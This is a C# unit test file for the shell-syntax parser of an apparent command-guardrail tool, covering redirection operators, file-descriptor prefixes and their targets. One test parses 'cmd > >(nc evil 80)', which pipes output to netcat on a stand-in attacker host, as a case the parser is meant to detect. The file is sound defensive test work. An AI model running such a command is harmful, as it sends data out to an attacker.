using Guardrails.Shell.Syntax;
using static Guardrails.Tests.Shell.Syntax.SyntaxTestHelpers;

namespace Guardrails.Tests.Shell.Syntax;

public class RedirectionTests
{
    public static TheoryData<string, string, int?, string?, string> Operators => new()
    {
        { "<in", nameof(RedirectionOperator.Input), null, null, "in" },
        { ">out", nameof(RedirectionOperator.Output), null, null, "out" },
        { ">>log", nameof(RedirectionOperator.Append), null, null, "log" },
        { ">|f", nameof(RedirectionOperator.Clobber), null, null, "f" },
        { "<>f", nameof(RedirectionOperator.ReadWrite), null, null, "f" },
        { "<&3", nameof(RedirectionOperator.DupInput), null, null, "3" },
        { ">&2", nameof(RedirectionOperator.DupOutput), null, null, "2" },
        { "2>&1", nameof(RedirectionOperator.DupOutput), 2, null, "1" },
        { "2>&-", nameof(RedirectionOperator.DupOutput), 2, null, "-" },
        { ">&file", nameof(RedirectionOperator.DupOutput), null, null, "file" },
        { "&>all", nameof(RedirectionOperator.OutputAndError), null, null, "all" },
        { "&>>all", nameof(RedirectionOperator.AppendOutputAndError), null, null, "all" },
        { "<<<word", nameof(RedirectionOperator.HereString), null, null, "word" },
        { "2>err", nameof(RedirectionOperator.Output), 2, null, "err" },
        { "10>x", nameof(RedirectionOperator.Output), 10, null, "x" },
        { "0<in", nameof(RedirectionOperator.Input), 0, null, "in" },
        { "{fd}>x", nameof(RedirectionOperator.Output), null, "fd", "x" },
        { "{fd}<&-", nameof(RedirectionOperator.DupInput), null, "fd", "-" },
        { "> spaced", nameof(RedirectionOperator.Output), null, null, "spaced" },
        { "> \"$f\"", nameof(RedirectionOperator.Output), null, null, "$f" },
    };

    [Theory]
    [MemberData(nameof(Operators))]
    public void Parse_RedirectionOperator_IsRecognized(string redirection, string op, int? fd, string? fdVariable, string target)
    {
        var parsed = SingleSimple("cmd " + redirection).Redirections.Should().ContainSingle().Subject;

        parsed.Op.ToString().Should().Be(op);
        parsed.Fd.Should().Be(fd);
        parsed.FdVariable.Should().Be(fdVariable);
        parsed.Target!.ToDisplayText().Should().Be(target);
    }

    [Theory]
    [InlineData("echo 2 >x", new[] { "echo", "2" })]
    [InlineData("echo a2>x", new[] { "echo", "a2" })]
    [InlineData("echo {fd} >x", new[] { "echo", "{fd}" })]
    [InlineData("echo 2&>x", new[] { "echo", "2" })]
    public void Parse_FdPrefix_OnlyWhenImmediatelyAdjacent(string source, string[] words)
    {
        var command = SingleSimple(source);

        WordTexts(command).Should().Equal(words);
        command.Redirections.Should().ContainSingle().Which.Fd.Should().BeNull();
    }

    [Fact]
    public void Parse_RedirectionsAnywhere_BelongToTheCommand()
    {
        var command = SingleSimple(">out a=1 cmd <in arg 2>&1");

        command.Assignments.Should().ContainSingle();
        WordTexts(command).Should().Equal("cmd", "arg");
        command.Redirections.Select(static r => r.Op).Should().Equal(RedirectionOperator.Output, RedirectionOperator.Input, RedirectionOperator.DupOutput);
    }

    [Fact]
    public void Parse_RedirectionOnlyCommand_HasNoWords()
    {
        var command = SingleSimple("> /tmp/x");

        command.Words.Should().BeEmpty();
        command.Redirections.Should().ContainSingle();
    }

    [Fact]
    public void Parse_ProcessSubstitutionAsRedirectionTarget_IsParsed()
    {
        var redirection = SingleSimple("cmd > >(nc evil 80)").Redirections.Single();

        redirection.Target!.Parts.Should().ContainSingle().Which.Should().BeOfType<ProcessSubstitutionPart>();
        CommandNames(redirection).Should().Equal("nc");
    }

    [Fact]
    public void Parse_MissingRedirectionTarget_IsASyntaxError()
    {
        var result = Parse("cat >");

        result.Diagnostics.Should().ContainSingle().Which.Kind.Should().Be(ParseDiagnosticKind.SyntaxError);
    }

    [Fact]
    public void Parse_BackgroundAfterRedirection_IsNotAnOperator()
    {
        var script = ParseComplete("cmd &>f & other");

        script.Body.Items.Should().HaveCount(2);
        script.Body.Items[0].Background.Should().BeTrue();
    }
}
